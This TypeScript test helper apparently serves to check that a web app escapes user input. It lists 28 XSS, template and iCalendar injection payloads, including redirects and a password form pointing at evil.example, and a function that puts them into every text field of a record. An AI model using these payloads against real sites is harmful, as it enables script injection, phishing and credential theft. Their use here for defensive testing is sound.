import { fieldsOf, type Field } from '#lib/domain/form/field.ts';
import { recordProblems } from '#lib/domain/form/problems.ts';
import type { Kind } from '#lib/domain/kinds.ts';
import { languages } from '#lib/domain/taxonomy/languages.ts';

/** What somebody could type to make a page, a calendar or a mail do something. Each would call `hit`, or change the page. */
export const hostileTexts: readonly string[] = [
	'<script>hit(1)</script>',
	'"><script>hit(2)</script>',
	"'><img src=x onerror=hit(3)>",
	'<img src=x onerror="hit(4)">',
	'<svg onload=hit(5)>',
	'<svg><script>hit(6)</script></svg>',
	'<iframe srcdoc="<script>parent.hit(7)</script>"></iframe>',
	'" onmouseover="hit(8)" onfocus="hit(8)" autofocus x="',
	"' onfocus='hit(9)' autofocus x='",
	'javascript:hit(10)',
	'<a href="javascript:hit(11)">clic</a>',
	'</script><script>hit(12)</script>',
	'</title><script>hit(13)</script>',
	'</textarea><script>hit(14)</script>',
	'</style><script>hit(15)</script>',
	'--><script>hit(16)</script><!--',
	']]><script>hit(17)</script>',
	'{{constructor.constructor("hit(18)")()}}',
	'{@html "<img src=x onerror=hit(19)>"} ${hit(19)}',
	'&lt;img src=x onerror=hit(20)&gt; &#60;script&#62;hit(20)&#60;/script&#62;',
	'%lang%" onload="hit(21)"> %dir% %rendered% <!--',
	'0;url=javascript:hit(22)" http-equiv="refresh" x="',
	'\\";hit(23);//\\u003cscript\\u003ehit(23)\\u003c/script\\u003e',
	'A\nATTENDEE:mailto:hit24@evil.example\nEND:VEVENT\nhit(24)',
	"$& $` $' $1 </head><b>hit(25)</b>",
	'<math><mtext><table><mglyph><style><img src=x onerror=hit(26)>',
	'<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">hit(27)',
	'<form action=https://evil.example><input name=password><button>hit(28)'
];

type Body = Record<string, unknown>;

/** Keys of other records, and what is compiled. */
const meant =
	/(^|\.)(id|uid|organisations?|programmes?|places?|guides|terms|see|notice|hours|recurrence|station|when)(\.\d+)?$/;

/**
 * A record with a text in every field that takes it: as it is, or else as the end of a web address. Gives back too how
 * many took it.
 */
export function poisoned(kind: Kind, base: Body, text: string): { body: Body; taken: number } {
	let body = structuredClone(base);
	let taken = 0;
	const fits = (changed: Body) => recordProblems(kind, changed).length === 0;
	const leaves = textFields(fieldsOf(kind), '', base).filter((path) => !meant.test(path.replace(/\.value$/, '')));
	for (const path of leaves)
		for (const value of [text, `https://example.org/${text}`]) {
			const changed = structuredClone(body);
			put(changed, path.split('.'), value);
			if (!fits(changed)) continue;
			body = changed;
			taken += 1;
			break;
		}
	return { body, taken };
}

/** Paths of all texts there are, or could be. */
function textFields(field: Field, path: string, value: unknown): string[] {
	const under = (name: string) => (path ? `${path}.${name}` : name);
	if (field.type === 'text') return [path];
	if (field.type === 'lines') return field.numbers ? [] : [under('0')];
	if (field.type === 'words') return languages.map(({ code }) => under(code));
	if (field.type === 'texts') return languages.map(({ code }) => under(`${code}.value`));
	if (field.type === 'list' && Array.isArray(value))
		return value.flatMap((each, index) => textFields(field.item, under(String(index)), each));
	if (field.type !== 'group' || (path !== '' && (value === null || value === undefined))) return [];
	return Object.entries(field.fields).flatMap(([name, each]) => textFields(each, under(name), (value as Body)[name]));
}

function put(target: Body, [name = '', ...rest]: string[], value: string): void {
	if (rest.length === 0) {
		target[name] = value;
		if (name === 'value') target['state'] ??= 'human';
		return;
	}
	target[name] ??= /^\d+$/.test(rest[0] ?? '') ? [] : {};
	put(target[name] as Body, rest, value);
}
